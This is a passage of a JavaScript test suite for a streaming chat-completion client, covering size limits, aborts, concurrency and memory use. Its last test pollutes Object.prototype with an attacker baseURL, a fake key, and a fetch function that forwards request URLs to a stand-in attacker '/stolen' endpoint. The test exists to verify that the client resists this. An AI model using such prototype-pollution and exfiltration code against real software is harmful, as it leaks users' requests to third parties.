      const s = await within(5000, c.chat.completions.create(STREAM, hostile('sse-empty;kib=4096')), what);
      return rejectsWith(env, s.next(), { name: 'APIError', message: /^A stream event exceeded the 16 MiB size limit/, ms: 10_000, what });
    });
    await env.waitClosed(3000);
    check(m.wasm <= 4 * MiB, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
    check(m.js < 4 * 16 * MiB, `${what}: the JS heap grew by ${mib(m.js)} MiB`);
    figures[what] = { errorMs: m.value.ms, jsPeakMiB: mib(m.js), wasmGrowthMiB: mib(m.wasm) };
    await stillWorks(c, 'empty data lines', { stream: true });
    return figures;
  },

  async '300,000 choices in descending index order: merged in linear time, in index order'(env) {
    const c = client(env);
    const n = 300_000;
    const what = `${n} descending choices`;
    const m = await peak(env, async () => {
      const s = await within(5000, c.chat.completions.create(STREAM, hostile(`choices;n=${n}`)), what);
      return within(10_000, s.finalChatCompletion(), `${what}: finalChatCompletion`);
    });
    const final = m.value;
    check(final.choices.length === n, `${what}: ${final.choices.length} choices`);
    for (let i = 0; i < n; i += 997) {
      const ch = final.choices[i];
      check(ch.index === i && ch.message.content === `c${i}`, `${what}: choice ${i} is ${show(JSON.stringify(ch))}`);
    }
    check(final.choices[0].finish_reason === 'stop', `${what}: finish_reason ${final.choices[0].finish_reason}`);
    // Measured ~1 s in Node on a busy machine; the sorted insert this replaced took ~59 s.
    check(m.ms < 8000, `${what}: took ${m.ms} ms`);
    // The SSE line and data buffers of the 12 MB event (2 MiB of doublings + the 16 MiB cap each),
    // the accumulator (~100 bytes per choice: within the default 32 MiB limit) and the
    // completion's JSON text: measured 117 MiB in Node.
    check(m.wasm <= 2 * 18 * MiB + 3 * DEFAULT_LIMIT, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
    await env.waitClosed(3000);
    const limited = await peak(env, async () => {
      const s = await within(5000, c.chat.completions.create(STREAM, hostile(`choices;n=${n}`, { maxResponseBytes: MiB })), `${what}, 1 MiB`);
      return rejectsWith(env, s.finalChatCompletion(), { name: 'APIError', message: 'The streamed completion is larger than maxResponseBytes (1048576 bytes)', ms: 10_000, what: `${what}, maxResponseBytes 1 MiB` });
    });
    await env.waitClosed(3000);
    await stillWorks(c, what, { stream: true });
    return { ms: m.ms, jsPeakMiB: mib(m.js), wasmGrowthMiB: mib(m.wasm), limitedMs: limited.value.ms, limitedWasmGrowthMiB: mib(limited.wasm) };
  },

  async 'a chat stream whose completion passes maxResponseBytes: the limit error, socket released'(env) {
    const c = client(env);
    const tag = `acc-${Math.random()}`;
    const what = 'completion over maxResponseBytes 4096';
    const s = await within(5000, c.chat.completions.create(STREAM, hostile(`stream;chunks=1000000;every=0;tag=${tag}`, { maxResponseBytes: 4096 })), what);
    let n = 0;
    const { error, ms } = await rejectsWith(env, (async () => {
      for await (const ch of s) n += ch.choices.length;
    })(), { name: 'APIError', message: 'The streamed completion is larger than maxResponseBytes (4096 bytes)', ms: 10_000, what });
    check(error.retryable === false, `${what}: retryable ${error.retryable}`);
    check(n > 10 && n < 4096, `${what}: ${n} chunks before the error`);
    await env.waitClosed(3000);
    const { error: again } = await rejectsWith(env, s.finalChatCompletion(), { name: 'APIError', what: `${what}: finalChatCompletion` });
    check(again === error, `${what}: finalChatCompletion rejected with another error`);
    await stillWorks(c, what, { stream: true });
    return { ms, chunks: n };
  },

  async 'abort() or the caller\'s signal after the whole body arrived: the next next() rejects with APIUserAbortError'(env) {
    // The normal stream is written at once, [DONE] included: the first next() reads all of it.
    // The idle timer is the runtime's only timer of IDLE ms: the spy keeps those still set.
    const IDLE = 4321;
    const timers = spyTimers((ms) => ms === IDLE);
    const idleTimers = timers.live;
    const c = client(env, { streamIdleTimeout: IDLE });
    const figures = {};
    try {
      for (const how of ['stream.abort()', 'signal']) {
        const ac = new AbortController();
        const s = await within(5000, c.chat.completions.create(STREAM, { signal: ac.signal }), how);
        const first = await within(5000, s.next(), `${how}: the first chunk`);
        check(!first.done && first.value.choices[0].delta.content === ANSWER.slice(0, 1), `${how}: the first chunk`);
        await sleep(50);
        check(idleTimers.size === 0, `${how}: the idle timer is still set once the whole body has arrived`);
        if (how === 'signal') ac.abort();
        else s.abort();
        try {
          const { ms } = await rejectsWith(env, s.next(), { name: 'APIUserAbortError', what: `next() after ${how}`, ms: 2000 });
          const later = await within(1000, s.next().then((r) => (r.done ? 'done' : 'a chunk'), (e) => e.name), `${how}: a later next()`);
          check(later === 'APIUserAbortError' || later === 'done', `${how}: a later next() gave ${later}`);
          figures[how] = `rejected in ${ms} ms, then ${later}`;
        } finally {
          // When the abort was ignored, the stream (and its idle timer) would stay open.
          await s.return();
        }
        check(idleTimers.size === 0, `${how}: an idle timer is still set after the stream ended`);
      }
      // Read to the end, then aborted: nothing is left to cancel, the stream just stays done.
      const ac = new AbortController();
      const s = await within(5000, c.chat.completions.create(STREAM, { signal: ac.signal }), 'read to the end');
      let text = '';
      for await (const ch of s) text += ch.choices[0].delta.content ?? '';
      check(text === ANSWER, `read to the end: ${show(text)}`);
      ac.abort();
      s.abort();
      const after = await within(1000, s.next(), 'next() after the end and an abort');
      check(after.done === true, 'next() after the end and an abort did not report done');
      check(idleTimers.size === 0, 'an idle timer is still set after a stream read to the end');
      check(timers.seen > 0, 'the spy saw no idle timer');
    } finally {
      timers.restore();
    }
    await stillWorks(c, 'abort after the body', { stream: true });
    return figures;
  },

  async '200 concurrent streams with random aborts: all settle, memory back near baseline'(env) {
    const mem = wasmMemory(env);
    // Spread over the servers' origins: a browser opens at most 6 connections per origin.
    const origins = [env.url, ...(env.apis ?? [])];
    const clients = origins.map((url) => client({ ...env, url }));
    const c = clients[0];
    let seed = 0x2f6b1d3;
    const random = () => {
      // mulberry32: reproducible
      seed = (seed + 0x6d2b79f5) | 0;
      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
      return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
    };
    // Mode 0 reads its stream to the end, 1 aborts the signal at a random time, 2 calls abort()
    // after a random chunk, 3 breaks off. The streams that are aborted never end on their own, so
    // the abort always comes before [DONE] however slow the machine is (an abort after the whole
    // body arrived has its own case above).
    const CHUNKS = 30;
    const expected = Array.from({ length: CHUNKS }, (_, i) => `c${i} `).join('');
    const one = async (i) => {
      const mode = i % 4;
      const ac = new AbortController();
      if (mode === 1) setTimeout(() => ac.abort(), Math.floor(random() * 200));
      const stopAt = 1 + Math.floor(random() * (CHUNKS - 2));
      let text = '';
      try {
        const s = await clients[i % clients.length].chat.completions.create(STREAM, hostile(`stream;chunks=${mode === 1 || mode === 2 ? 1e6 : CHUNKS};every=${mode === 1 || mode === 2 ? 20 : 10}`, { signal: ac.signal }));
        let k = 0;
        for await (const ch of s) {
          text += ch.choices[0].delta.content;
          k++;
          if (mode === 2 && k === stopAt) s.abort();
          if (mode === 3 && k === stopAt) break;
        }
        if (mode === 0) {
          const final = await s.finalChatCompletion();
          return final.choices[0].message.content === expected && text === expected ? 'complete' : `wrong content ${show(text)}`;
        }
        return mode === 3 && text.length > 0 ? 'broke off' : `finished without its abort (mode ${mode})`;
      } catch (e) {
        return e instanceof env.Z.APIUserAbortError && (mode === 1 || mode === 2) ? 'aborted' : `${e && e.name}: ${e && e.message} (mode ${mode})`;
      }
    };
    const round = async () => {
      const t0 = performance.now();
      const outcomes = await within(30_000, Promise.all(Array.from({ length: 200 }, (_, i) => one(i))), '200 concurrent streams');
      const ms = Math.round(performance.now() - t0);
      const counts = {};
      for (const o of outcomes) counts[o] = (counts[o] ?? 0) + 1;
      check(counts.complete === 50 && counts.aborted === 100 && counts['broke off'] === 50,
        `200 concurrent streams: outcomes ${JSON.stringify(counts)}`);
      return ms;
    };
    const settle = async () => {
      for (let i = 0; i < 3; i++) {
        await env.gc();
        await sleep(20);
      }
    };
    await settle();
    const js0 = env.jsBytes();
    const firstMs = await round();
    await env.waitClosed(5000);
    await settle();
    const js1 = env.jsBytes();
    const wasm1 = mem.buffer.byteLength;
    const secondMs = await round();
    await env.waitClosed(5000);
    await settle();
    const js2 = env.jsBytes();
    const wasm2 = mem.buffer.byteLength;
    check(js2 - js0 < 8 * MiB, `200 streams: the JS heap is ${mib(js2 - js0)} MiB above its baseline after two rounds`);
    check(wasm2 - wasm1 <= MiB, `200 streams: wasm memory grew by ${mib(wasm2 - wasm1)} MiB in the second round`);
    await stillWorks(c, '200 streams', { stream: true });
    return { firstMs, secondMs, jsAfterRound1MiB: mib(js1 - js0), jsAfterRound2MiB: mib(js2 - js0), wasmMiB: mib(wasm2), wasmGrowthRound2MiB: mib(wasm2 - wasm1) };
  },

  async 'options inherited from a polluted Object.prototype are never used'(env) {
    const before = (await env.stats()).attackerHits;
    const attackerFetch = { calls: 0 };
    const seen = [];
    const aborted = new AbortController();
    aborted.abort();
    const POLLUTION = {
      baseURL: `${env.attacker}/api`,
      apiKey: 'attacker.key-that-must-not-be-used',
      signal: aborted.signal,
      headers: { 'x-polluted': 'headers' },
      defaultHeaders: { 'x-polluted': 'defaultHeaders' },
      fetch: (url) => {
        attackerFetch.calls++;
        return globalThis.fetch(`${env.attacker}/stolen?from=${encodeURIComponent(url)}`);
      },
      onResponse: () => { throw new Error('polluted onResponse'); },
      timeout: 1,
      maxRetries: 50,
      maxResponseBytes: 1,
      jwt: true,
    };
    const record = (url, init) => {
      seen.push({ url: String(url), authorization: init.headers.get('authorization'), polluted: init.headers.get('x-polluted'), aborted: init.signal.aborted });
      const h = new Headers();
      h.set('content-type', 'application/json');
      const r = new Response(`{"choices":[{"index":0,"message":{"role":"assistant","content":"${ANSWER}"},"finish_reason":"stop"}]}`, { status: 200, headers: h });
      return Promise.resolve(r);
    };
    const added = Object.keys(POLLUTION).filter((k) => !Object.prototype.hasOwnProperty.call(Object.prototype, k));
    check(added.length === Object.keys(POLLUTION).length, 'Object.prototype already has one of the keys');
    let results;
    try {
      Object.assign(Object.prototype, POLLUTION);
      // No baseURL (the default API root must be used): its requests go to the recording fetch.
      const a = new env.Z.ZaiClient({ apiKey: KEY, fetch: record });
      // No fetch (the global one must be used), a baseURL of its own.
      const b = new env.Z.ZaiClient({ apiKey: KEY, baseURL: `${env.url}/api` });
      results = [
        await within(5000, a.chat.completions.create(PARAMS), 'polluted: default baseURL'),
        await within(5000, a.chat.completions.create(PARAMS, {}), 'polluted: default baseURL, empty options'),
      ];
      // Node's own fetch (undici) and streams read `signal` from their internal option objects, so a
      // polluted `signal` breaks Node's fetch whatever the client does: the global-fetch calls run
      // without that one key there (env.breaksGlobalFetch).
      for (const k of env.breaksGlobalFetch ?? []) delete Object.prototype[k];
      results.push(
        await within(5000, b.chat.completions.create(PARAMS), 'polluted: global fetch'),
        await within(5000, b.chat.completions.create(PARAMS, {}), 'polluted: global fetch, empty options'),
      );
      const s = await within(5000, b.chat.completions.create(STREAM), 'polluted: stream');
      let text = '';
      for await (const ch of s) text += ch.choices[0].delta.content ?? '';
      check(text === ANSWER, `polluted: the stream sent ${show(text)}`);
    } finally {
      for (const k of added) delete Object.prototype[k];
    }
    check(added.every((k) => !(k in {})), 'Object.prototype was not cleaned up');
    for (const r of results) check(r.choices[0].message.content === ANSWER, `polluted: answered ${show(r.choices[0].message.content)}`);
    check(seen.length === 2, `polluted: the client's own fetch saw ${seen.length} requests, expected 2`);
    for (const s of seen) {
      check(s.url === 'https://api.z.ai/api/paas/v4/chat/completions', `polluted: a client without baseURL sent to ${s.url}`);
      check(s.authorization === `Bearer ${KEY}`, `polluted: Authorization ${show(s.authorization)}`);
      check(s.polluted === null, `polluted: the request carried x-polluted: ${s.polluted}`);
      check(s.aborted === false, 'polluted: the request went out with an aborted signal');
    }
    check(attackerFetch.calls === 0, `polluted: Object.prototype.fetch was called ${attackerFetch.calls} times`);
    const hits = (await env.stats()).attackerHits - before;
    check(hits === 0, `polluted: the attacker server got ${hits} requests`);
    return { attackerHits: hits, requests: seen.length + 3 };
  },
};
